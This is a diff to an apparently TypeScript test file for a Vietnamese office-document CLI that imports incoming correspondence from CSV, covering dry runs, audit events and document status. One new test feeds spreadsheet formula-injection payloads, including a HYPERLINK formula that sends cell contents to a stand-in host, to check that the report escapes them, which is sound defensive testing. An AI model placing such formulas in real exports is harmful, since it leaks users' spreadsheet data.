@@ -7,6 +7,7 @@ import { BIN } from '../../test/processes.ts';
 import { createTestDatabase, TEST_DB, testConfig, type TestDatabase } from '../../test/test-context.ts';
 import { createContext, type AppContext } from '../platform/context.ts';
 import { generateRegister } from '../modules/import/import.fixtures.ts';
+import { reportCsv } from './import-commands.ts';
 import { seedDemo } from '../modules/seed/seed.ts';
 
 const execFileP = promisify(execFile);
@@ -61,12 +62,23 @@ describe(`vanphong import incoming on ${TEST_DB}`, { timeout: 300_000 }, () => {
     expect(dry.out).toContain('Dòng 2: sẽ vào «Sổ đăng ký văn bản đến 2025» số đến 1 ngày 2025-01-02 — 701-CV/VPTW');
     expect(dry.out).toContain('Dòng 3: LỖI [Ngày văn bản] Ngày không hợp lệ: «hôm qua»');
     expect(dry.out).toContain('Chạy thử (--dry-run), không ghi gì: lô «nho.csv» (CSV utf-8-bom) → Tỉnh ủy Hồng Lam');
-    expect([await countOf('incoming_documents'), await countOf('audit_events'), await countOf('import_rows')]).toEqual(before);
+    // Nothing written but the batch's two audit events, marked as a dry run.
+    expect([await countOf('incoming_documents'), await countOf('audit_events'), await countOf('import_rows')]).toEqual([before[0], before[1]! + 2, before[2]]);
+    const batchEvents = await ctx.db.selectFrom('audit_events').select(['action', 'actor_name', 'details']).where('entity_type', '=', 'import_batch').orderBy('seq').execute();
+    expect(batchEvents.map((e) => [e.action, JSON.parse(e.details).dryRun])).toEqual([
+      ['import.started', true],
+      ['import.finished', true],
+    ]);
+    expect(batchEvents[0]!.actor_name).toMatch(/^cli:.+ as vanthu$/);
 
     const report = path.join(dir, 'bao-cao.csv');
     const real = await vanphong(['import', 'incoming', file, '--as', 'vanthu', '--report', report]);
     expect(real.code).toBe(1);
     expect(real.out).toContain('Tổng 2 dòng: vào sổ 1, bỏ qua (đã nhập trước) 0, lỗi 1, cảnh báo 0.');
+    // January 2025 is more than 31 days ago: the row is filed (lưu), not left in the clerk's queue.
+    expect(real.out).toContain('Trong đó 1 văn bản đã lưu');
+    const filed = await ctx.db.selectFrom('incoming_documents').select('status').where('notation', '=', '701-CV/VPTW').executeTakeFirstOrThrow();
+    expect(filed.status).toBe('filed');
     expect(real.out).toContain(`Báo cáo từng dòng: ${report}`);
     expect(real.err).toContain('Đã xử lý 2/2 dòng: vào sổ 1, bỏ qua 0, lỗi 1');
     expect(fs.readFileSync(report, 'utf8')).toBe(
@@ -75,6 +87,46 @@ describe(`vanphong import incoming on ${TEST_DB}`, { timeout: 300_000 }, () => {
     const audit = await ctx.db.selectFrom('audit_events').select('actor_name').where('action', '=', 'incoming.registered').orderBy('seq', 'desc').executeTakeFirstOrThrow();
     expect(audit.actor_name).toMatch(/^cli:.+ as vanthu$/);
     expect((await vanphong(['import', 'incoming', path.join(dir, 'khong-co.csv'), '--as', 'vanthu'])).code).toBe(2);
+    const badStatus = await vanphong(['import', 'incoming', file, '--as', 'vanthu', '--status', 'done']);
+    expect(badStatus.code).toBe(2);
+    expect(badStatus.err).toContain('--status is filed or registered');
+  });
+
+  it('--status registered leaves old rows open', async () => {
+    const file = path.join(dir, 'mo.csv');
+    fs.writeFileSync(file, 'Ngày đến,Tác giả,"Số, ký hiệu",Ngày văn bản,Trích yếu\n05/02/2025,Sở Nội vụ,88-CV/SNV,03/02/2025,V/v để mở\n');
+    const r = await vanphong(['import', 'incoming', file, '--as', 'vanthu', '--status', 'registered']);
+    expect(r.code, r.err).toBe(0);
+    expect(r.out).not.toContain('đã lưu');
+    const doc = await ctx.db.selectFrom('incoming_documents').select('status').where('notation', '=', '88-CV/SNV').executeTakeFirstOrThrow();
+    expect(doc.status).toBe('registered');
+  });
+
+  it('the report neutralises cells a spreadsheet would run as formulas', () => {
+    const row = (field: string, message: string) => ({
+      rowNumber: 7,
+      status: 'failed' as const,
+      incomingId: null,
+      filed: false,
+      registerName: null,
+      arrivalNumber: null,
+      arrivalDate: null,
+      notation: '',
+      errors: [{ field, message }],
+      warnings: [],
+    });
+    const csv = reportCsv([
+      row('=HYPERLINK("http://x/?"&A1)', '+1'),
+      row('-2+3', '@SUM(A1:A9)'),
+      row('\tTab', '\r=1'),
+      row('Trích yếu', 'Số 5 - hợp lệ = bình thường'),
+    ]);
+    expect(csv.split('\r\n').slice(1, -1)).toEqual([
+      `7,"'=HYPERLINK(""http://x/?""&A1)",'+1,lỗi`,
+      `7,'-2+3,'@SUM(A1:A9),lỗi`,
+      `7,'\tTab,"'\r=1",lỗi`,
+      '7,Trích yếu,Số 5 - hợp lệ = bình thường,lỗi',
+    ]);
   });
 
   it(`killed (SIGKILL) half way through ${KILL_ROWS} rows and started again, it registers each row exactly once`, async () => {
